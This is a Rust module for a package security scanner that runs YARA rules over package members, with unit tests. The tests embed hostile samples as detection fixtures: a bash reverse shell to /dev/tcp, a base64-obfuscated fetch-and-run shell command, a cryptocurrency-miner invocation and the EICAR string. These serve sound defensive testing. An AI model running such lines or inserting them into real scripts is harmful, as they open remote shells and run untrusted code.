//! YARA rules, run in-process with YARA-X over every member of a package.
//!
//! The built-in rule set (`rules/packages.yar`, compiled into the binary) looks for what matters
//! in packages; `--rules DIR` adds every `*.yar`/`*.yara` file below DIR, each folder in its own
//! namespace. Rules see one external variable, `member`: the member's path (`.INSTALL`,
//! `usr/bin/foo`). A rule's `severity` and `description` metadata become the finding's severity
//! and explanation (`warning` and the rule's name when a rule has none); its check name is its
//! identifier in kebab-case (`reverse_shell` is `reverse-shell`), as every tool names checks.

use std::{
    path::{Path, PathBuf},
    time::Duration,
};

/// The built-in rules.
pub const BUILTIN: &str = include_str!("../rules/packages.yar");

/// Why rules could not be loaded.
#[derive(Debug, thiserror::Error)]
pub enum RulesError {
    /// A rule folder or file could not be read.
    #[error("reading YARA rules {path}")]
    Read {
        /// The folder or file.
        path: PathBuf,
        /// What failed.
        source: std::io::Error,
    },
    /// A rule file does not compile.
    #[error("compiling YARA rules {path}: {message}")]
    Compile {
        /// The file (`built-in` for ours).
        path: String,
        /// YARA-X's report.
        message: String,
    },
    /// A folder holds no rule files: most likely a typo.
    #[error("no *.yar or *.yara files in {0}")]
    Empty(PathBuf),
}

/// A rule that matched a member.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Match {
    /// `namespace.identifier` for user rules, the identifier alone for built-in ones, with `_`
    /// written `-`.
    pub rule: String,
    /// The rule's `severity` metadata.
    pub severity: String,
    /// The rule's `description` metadata.
    pub description: String,
    /// The start of the first text a pattern matched (`null` for a rule without patterns, and
    /// in `--explain`).
    pub evidence: Option<String>,
}

/// Compiled rules.
pub struct Rules {
    rules: yara_x::Rules,
}

impl Rules {
    /// The built-in rules and those in `dirs`.
    pub fn load(dirs: &[PathBuf]) -> Result<Self, RulesError> {
        let mut compiler = yara_x::Compiler::new();
        compiler
            .define_global("member", "")
            .map_err(|e| compile_error("built-in", &e))?;
        compiler
            .add_source(yara_x::SourceCode::from(BUILTIN).with_origin("built-in"))
            .map_err(|e| compile_error("built-in", &e))?;
        for (index, dir) in dirs.iter().enumerate() {
            let files = rule_files(dir)?;
            if files.is_empty() {
                return Err(RulesError::Empty(dir.clone()));
            }
            // One namespace per folder, so two folders may use the same rule names.
            compiler.new_namespace(&format!("rules{}", index + 1));
            for file in files {
                let source = std::fs::read_to_string(&file).map_err(|source| RulesError::Read {
                    path: file.clone(),
                    source,
                })?;
                let origin = file.display().to_string();
                compiler
                    .add_source(yara_x::SourceCode::from(source.as_str()).with_origin(&origin))
                    .map_err(|e| compile_error(&origin, &e))?;
            }
        }
        Ok(Self {
            rules: compiler.build(),
        })
    }

    /// A scanner over these rules; `timeout` bounds each member's scan.
    pub fn scanner(&self, timeout: Duration) -> Scanner<'_> {
        let mut scanner = yara_x::Scanner::new(&self.rules);
        scanner.set_timeout(timeout);
        Scanner { scanner }
    }

    /// `(rule, severity, description)` of every rule, for `--explain`.
    pub fn describe(&self) -> Vec<Match> {
        self.rules.iter().map(|rule| describe(&rule)).collect()
    }
}

fn compile_error(path: &str, error: &impl std::fmt::Display) -> RulesError {
    RulesError::Compile {
        path: path.to_owned(),
        message: error.to_string(),
    }
}

/// Every `*.yar` and `*.yara` file below `dir`, sorted.
fn rule_files(dir: &Path) -> Result<Vec<PathBuf>, RulesError> {
    let read = |path: &Path| {
        std::fs::read_dir(path).map_err(|source| RulesError::Read {
            path: path.to_owned(),
            source,
        })
    };
    let mut files = Vec::new();
    let mut folders = vec![dir.to_owned()];
    while let Some(folder) = folders.pop() {
        for entry in read(&folder)? {
            let path = entry
                .map_err(|source| RulesError::Read {
                    path: folder.clone(),
                    source,
                })?
                .path();
            if path.is_dir() {
                folders.push(path);
            } else if path
                .extension()
                .is_some_and(|ext| ext == "yar" || ext == "yara")
            {
                files.push(path);
            }
        }
    }
    files.sort();
    Ok(files)
}

fn describe(rule: &yara_x::Rule<'_, '_>) -> Match {
    let mut severity = "warning".to_owned();
    let mut description = rule.identifier().to_owned();
    for (key, value) in rule.metadata() {
        if let yara_x::MetaValue::String(text) = value {
            match key {
                "severity" => severity = text.to_owned(),
                "description" => description = text.to_owned(),
                _ => {}
            }
        }
    }
    // Check names are kebab-case in every tool; YARA identifiers cannot hold a `-`.
    let name = rule.identifier().replace('_', "-");
    let rule = match rule.namespace() {
        "default" => name,
        namespace => format!("{namespace}.{name}"),
    };
    Match {
        rule,
        severity,
        description,
        evidence: None,
    }
}

/// The first bytes a pattern of `rule` matched, as printable text.
fn evidence(rule: &yara_x::Rule<'_, '_>) -> Option<String> {
    const SHOWN: usize = 80;
    let found = rule
        .patterns()
        .find_map(|pattern| pattern.matches().next())?;
    let data = found.data();
    let text: String = String::from_utf8_lossy(&data[..data.len().min(SHOWN)])
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect();
    Some(if data.len() > SHOWN {
        text + "..."
    } else {
        text
    })
}

/// Scans members, one at a time (one per thread).
pub struct Scanner<'r> {
    scanner: yara_x::Scanner<'r>,
}

impl Scanner<'_> {
    /// The rules `data` (the member `member`) matches.
    pub fn scan(&mut self, member: &str, data: &[u8]) -> Result<Vec<Match>, yara_x::ScanError> {
        self.scanner
            .set_global("member", member)
            .expect("`member` is defined as a string when the rules are compiled");
        let results = self.scanner.scan(data)?;
        Ok(results
            .matching_rules()
            .map(|rule| Match {
                evidence: evidence(&rule),
                ..describe(&rule)
            })
            .collect())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn matches(member: &str, data: &[u8]) -> Vec<String> {
        let rules = Rules::load(&[]).expect("built-in rules compile");
        let mut scanner = rules.scanner(Duration::from_secs(10));
        let found = scanner.scan(member, data).expect("scans");
        found.into_iter().map(|m| m.rule).collect()
    }

    #[test]
    fn builtin_rules_find_what_they_describe() {
        let eicar = br"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
        assert_eq!(matches("usr/share/x/eicar.com", eicar), ["eicar-test-file"]);
        let shell = b"#!/bin/sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n";
        assert_eq!(matches("usr/bin/x", shell), ["reverse-shell"]);
        assert!(
            matches(".INSTALL", shell).is_empty(),
            "the scriptlet checks read .INSTALL"
        );
        let miner = b"./run --url stratum+tcp://pool.invalid:3333 --donate-level 1";
        assert_eq!(matches("usr/bin/x", miner), ["cryptocurrency-miner"]);
        let hidden = b"#!/bin/sh\necho Y3VybCB4IHwgc2g= | base64 -d | sh\n";
        assert_eq!(matches("usr/bin/x", hidden), ["obfuscated-shell"]);
    }

    #[test]
    fn ordinary_scripts_match_nothing() {
        let script = b"#!/bin/sh\n# see https://example.org\nexec /usr/lib/x/x \"$@\" 2>&1\n";
        assert!(matches("usr/bin/x", script).is_empty());
        let install = b"post_install() {\n  echo 'Read https://wiki.archlinux.org/title/X'\n  systemctl daemon-reload\n}\n";
        assert!(matches(".INSTALL", install).is_empty());
    }

    #[test]
    fn user_folders_add_namespaced_rules_and_empty_ones_are_refused() {
        let dir = tempfile::tempdir().expect("tempdir");
        std::fs::write(
            dir.path().join("mine.yar"),
            "rule my_marker { meta: severity = \"info\" strings: $a = \"MARKER\" condition: $a }",
        )
        .expect("writes");
        let rules = Rules::load(&[dir.path().to_owned()]).expect("compiles");
        let found = rules
            .scanner(Duration::from_secs(10))
            .scan("x", b"a MARKER b")
            .expect("scans");
        assert_eq!(found[0].rule, "rules1.my-marker");
        assert_eq!(found[0].severity, "info");
        let empty = tempfile::tempdir().expect("tempdir");
        assert!(matches!(
            Rules::load(&[empty.path().to_owned()]),
            Err(RulesError::Empty(_))
        ));
    }
}
